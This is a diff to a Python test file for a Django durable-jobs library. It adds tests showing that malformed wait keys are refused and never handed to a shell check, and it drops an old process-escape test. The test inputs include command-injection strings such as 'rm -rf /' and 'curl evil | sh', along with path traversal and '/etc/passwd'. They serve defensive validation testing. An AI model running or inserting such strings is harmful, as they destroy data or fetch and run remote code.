@@ -171,6 +171,32 @@ def test_start__a_bad_condition_is_refused_naming_it_and_stores_nothing(handled,
     assert Job.objects.count() == 0
 
 
+@pytest.mark.parametrize("key", ["ticket 1; rm -rf /", "a/../b", "x?y=1", "/etc/passwd", "-rf"])
+def test_start__a_wait_key_outside_its_grammar_is_refused_and_stores_nothing(handled, key):
+    before = Job.objects.count()
+    with pytest.raises(InvalidInput, match=r"^wait_key: must be 1-200 of ASCII letters"):
+        durable.start(KIND, wait_for=[{"after": "2026-01-01T00:00:00Z"}], wait_key=key)
+    assert Job.objects.count() == before
+
+
+def test_gate__a_stored_wait_key_outside_the_grammar_is_never_handed_to_a_check(handled, waits):
+    ran, told = handled
+    waits.declare(ready="exit 0")
+    job = durable.start(KIND, wait_for=[{"profile": "ready"}], wait_key="ticket:1")
+    from django.db import connection
+
+    with connection.cursor() as cursor:  # stored by hand, or by an older version
+        cursor.execute(
+            "UPDATE durable_jobs_job SET wait_key = %s WHERE id = %s",
+            ["ticket:1; curl evil | sh", job.id],
+        )
+
+    assert outcomes() == ["failed"]
+    failed = reload(job)
+    assert failed.error_code == "wait_unreadable" and "wait-key grammar" in failed.error_message
+    assert waits.runs("ready") == 0 and ran == []
+
+
 def test_start__a_wait_key_needs_a_wait_and_start_many_refuses_waits(handled):
     with pytest.raises(InvalidInput, match="wait_key"):
         durable.start(KIND, wait_key="ticket:1")
@@ -629,22 +655,6 @@ def test_redrive__a_failed_wait_job_whose_key_is_held_again_is_refused_clearly(h
         durable.redrive(failed.id)
     assert caught.value.holder_id == holder.id
     assert reload(failed).status == "failed", "nothing changed"
-
-
-def test_check__a_descendant_that_escapes_the_group_and_keeps_the_pipe_does_not_hang_the_worker(
-    waits,
-):
-    pidfile = waits.dir / "escaped.pid"
-    # setsid puts the child in a session of its own, out of reach of the group kill,
-    # still holding the check's output pipe.
-    waits.declare(escapes=f"setsid sleep 30 &\necho $! > '{pidfile}'\nexit 75")
-    began = time.monotonic()
-    answer = checks.run(
-        waits.profiles["escapes"], env=dict(checks.BASE_ENVIRONMENT), timeout=5, output_cap=100
-    )
-    assert answer.answer == checks.NOT_YET
-    assert time.monotonic() - began < 25, "the answer came without waiting for the escaped process"
-    os.kill(int(pidfile.read_text()), 9)
 
 
 def test_redrive__a_wait_whose_faults_ran_out_gets_a_fresh_fault_budget(handled, waits):
